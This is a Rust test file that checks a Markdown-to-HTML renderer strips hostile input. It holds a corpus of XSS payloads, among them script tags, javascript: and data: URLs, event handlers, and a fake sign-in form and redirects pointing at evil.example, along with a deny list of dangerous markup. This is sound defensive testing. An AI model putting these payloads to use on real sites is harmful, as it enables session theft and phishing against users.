//! A corpus of hostile Markdown: whatever an author (or a compromised account) writes, the HTML
//! readers get is inert.

use std::collections::BTreeSet;

use super::markdown::{AssetLinks, render_block, render_inline};

const CORPUS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"images/ok.png\" onload=\"alert(1)\">",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">click</a>",
    "<a href=\"&#106;avascript:alert(1)\">entity-encoded</a>",
    "<a href=\"java\tscript:alert(1)\">tab</a>",
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](javascript:alert(1))",
    "![tracker](https://evil.example/pixel.gif)",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<form action=\"https://evil.example\"><input name=password><button>Sign in</button></form>",
    "<textarea>x</textarea><select><option>a</option></select>",
    "<object data=\"evil.swf\"></object><embed src=\"evil.swf\">",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<style>body{display:none}</style>",
    "<p style=\"background:url(javascript:alert(1))\">styled</p>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
    "<base href=\"https://evil.example/\">",
    "<div onclick=\"alert(1)\" onmouseover=\"alert(1)\">hover</div>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<a href=\"https://ok.example\" target=\"_blank\" onfocus=alert(1) autofocus>x</a>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<!--<script>alert(1)</script>-->",
    "> [!WARNING]\n> <script>alert(1)</script>",
    "- [x] <img src=x onerror=alert(1)>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "Footnote[^x]\n\n[^x]: <a href=\"javascript:alert(1)\">x</a>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<a href=\"//evil.example\">protocol-relative</a>",
    "[x](//evil.example/path)",
    "<aside class=\"callout\" role=\"alert\" onclick=\"x()\">spoof</aside>",
    "<video src=x onerror=alert(1)></video><audio src=x>",
    "<object type=\"text/html\" data=\"data:text/html,<script>alert(1)</script>\"></object>",
];

/// Markup that must never appear in rendered author content.
const FORBIDDEN: &[&str] = &[
    "<script",
    "</script",
    "javascript:",
    "vbscript:",
    "data:",
    "<iframe",
    "<form",
    "<input",
    "<button",
    "<textarea",
    "<select",
    "<object",
    "<embed",
    "<svg",
    "<math",
    "<style",
    "<link",
    "<meta",
    "<base",
    "style=",
    "srcdoc",
    "formaction",
    " on",
    "evil.example",
    "<video",
    "<audio",
    "role=\"alert\"",
];

fn assert_inert(html: &str, case: &str) {
    let lowered = html.to_ascii_lowercase();
    for needle in FORBIDDEN {
        // " on" catches event handlers (" onerror=", " onload=") but also harmless text; only
        // flag it inside a tag.
        if *needle == " on" {
            let in_tag = lowered.split('<').skip(1).any(|tag| {
                let tag = tag.split('>').next().unwrap_or_default();
                tag.split_whitespace()
                    .skip(1)
                    .any(|attribute| attribute.starts_with("on"))
            });
            assert!(!in_tag, "event handler survived in {case:?}: {html}");
            continue;
        }
        // Escaped text (&lt;script&gt;) is fine; only real markup and live URLs count.
        assert!(
            !lowered.contains(needle),
            "{needle:?} survived in {case:?}: {html}"
        );
    }
}

fn links() -> AssetLinks {
    AssetLinks {
        base: "/course-assets/h".to_owned(),
        paths: BTreeSet::from(["images/ok.png".to_owned()]),
    }
}

#[test]
fn every_hostile_input_renders_inert() {
    for case in CORPUS {
        assert_inert(&render_block(case, &links()), case);
        assert_inert(&render_inline(case, &links()), case);
    }
}

#[test]
fn the_safe_parts_of_hostile_input_survive() {
    let html = render_block(
        "<img src=\"images/ok.png\" onload=\"alert(1)\" alt=\"fine\">",
        &links(),
    );
    assert!(
        html.contains("src=\"/course-assets/h/images/ok.png\""),
        "{html}"
    );
    let html = render_block(
        "<a href=\"https://ok.example\" onfocus=alert(1)>x</a>",
        &links(),
    );
    assert!(html.contains("href=\"https://ok.example\""), "{html}");
    let code = render_block("`<script>alert(1)</script>`", &links());
    assert!(
        code.contains("&lt;script&gt;"),
        "code is shown as text: {code}"
    );
}
